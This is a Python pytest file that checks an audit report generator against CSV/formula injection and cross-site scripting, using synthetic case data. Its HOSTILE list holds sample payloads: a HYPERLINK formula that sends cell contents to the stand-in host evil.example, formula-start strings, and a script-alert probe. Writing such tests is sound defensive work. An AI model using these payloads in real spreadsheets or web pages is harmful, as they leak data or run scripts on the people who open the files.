"""Text from an extract is data, never code, in every output a pack writes.

Partnership names are the free text that reaches a pack (captions, tables, funnel plots,
the workbook, ``figures.csv``, the history export). Each name below starts as a spreadsheet
formula would (OWASP, "CSV Injection") or carries markup. The workbook must store them as
text (no ``<f>`` formula element anywhere), the CSVs must neutralise them with a leading
apostrophe, and the HTML must escape them.
"""

from __future__ import annotations

import csv
import io
import re
import zipfile
from pathlib import Path

import pytest

from audit.disclosure import Policy, protect
from audit.run.pack import write_pack
from audit.sections import build_sections
from audit.workspace import open_audit

HOSTILE = ('=HYPERLINK("http://evil.example/?"&A1,"click")', "+SUM(1,2)", "-2+3", "@cmd",
           "<script>alert(1)</script>")


def _extract(tmp_path: Path) -> Path:
    lines = ["case_id,notification_date,child_age_months,harmed_by,known_to,partnership,"
             "father_seen,father_contacted,father_identified,domestic_abuse"]
    i = 0
    for name in HOSTILE:
        for j in range(30):
            i += 1
            quoted = '"' + name.replace('"', '""') + '"'
            lines.append(f"SYN-INJ-{i:04d},2025-0{1 + j % 6}-15,3,birth_father,universal,"
                         f"{quoted},{'yes' if j % 2 else 'no'},{'yes' if j % 3 else 'no'},"
                         f"yes,{'yes' if j % 4 else 'no'}")
    path = tmp_path / "hostile.csv"
    path.write_text("\n".join(lines) + "\n", encoding="utf-8")
    return path


@pytest.fixture(scope="module")
def packs(tmp_path_factory):
    tmp = tmp_path_factory.mktemp("inject")
    data = open_audit(_extract(tmp), allow_missing="all").compute()
    out = {}
    for audience in ("board", "public"):
        folder = tmp / audience
        folder.mkdir()
        policy = Policy.make(audience)
        view = protect(data, policy)
        write_pack(folder, view, build_sections(view, data.history))
        out[audience] = folder
    return out


@pytest.mark.e2e
@pytest.mark.parametrize("audience", ["board", "public"])
def test_workbook_stores_names_as_text_never_formulas(packs, audience):
    book = packs[audience] / f"{audience}-pack.xlsx"
    with zipfile.ZipFile(book) as archive:
        sheets = [n for n in archive.namelist() if n.startswith("xl/worksheets/sheet")]
        assert sheets
        for name in sheets:
            xml = archive.read(name).decode("utf-8")
            assert "<f>" not in xml and "<f " not in xml, name
    from openpyxl import load_workbook

    wb = load_workbook(book)
    found = set()
    for ws in wb.worksheets:
        for row in ws.iter_rows():
            for cell in row:
                if isinstance(cell.value, str) and cell.value in HOSTILE:
                    assert cell.data_type == "s"
                    found.add(cell.value)
    if audience == "board":  # the partnerships table names every partnership
        assert found == set(HOSTILE)


@pytest.mark.e2e
@pytest.mark.parametrize("audience", ["board", "public"])
def test_html_escapes_names(packs, audience):
    page = (packs[audience] / f"{audience}-pack.html").read_text(encoding="utf-8")
    assert "<script>alert(1)</script>" not in page
    assert "&lt;script&gt;alert(1)&lt;/script&gt;" in page


@pytest.mark.e2e
def test_figures_csv_neutralises_every_formula_start(packs):
    text = (packs["public"] / "figures.csv").read_text(encoding="utf-8")
    rows = list(csv.reader(io.StringIO("\n".join(text.splitlines()[1:]))))
    for row in rows:
        for cell in row:
            if re.fullmatch(r"-?[0-9.e+-]+", cell):
                continue  # a number (a rate's lower bound can be just below 0)
            assert not re.match(r"[=+\-@\t\r]", cell), cell
    # and a reviewer's check reads the names back as they were
    from audit.disclosure.figures import read_figures

    publication, _ = read_figures(packs["public"] / "figures.csv")
    assert {p for c in publication.counts for t in c.terms for p in t.partnerships} \
        == set(HOSTILE)


def test_history_export_neutralises_names(tmp_path):
    from audit.history import open_history
    from audit.measures.metrics import metrics_table

    data = open_audit(_extract(tmp_path), allow_missing="all")
    store = open_history(tmp_path / "history.sqlite")
    try:
        name = HOSTILE[0]
        cases = data.cases[data.cases["partnership"] == name]
        store.record(metrics_table(cases), partnership=name, period="2025-Q1",
                     provenance={"input_sha256": "0" * 64, "input_file": "hostile.csv"})
        path = store.export_csv(tmp_path / "history.csv")
    finally:
        store.close()
    rows = list(csv.reader(path.open(encoding="utf-8", newline="")))
    for row in rows[1:]:
        for cell in row:
            assert not re.match(r"[=+@\t\r]", cell) and not re.match(r"-[^0-9]", cell), cell
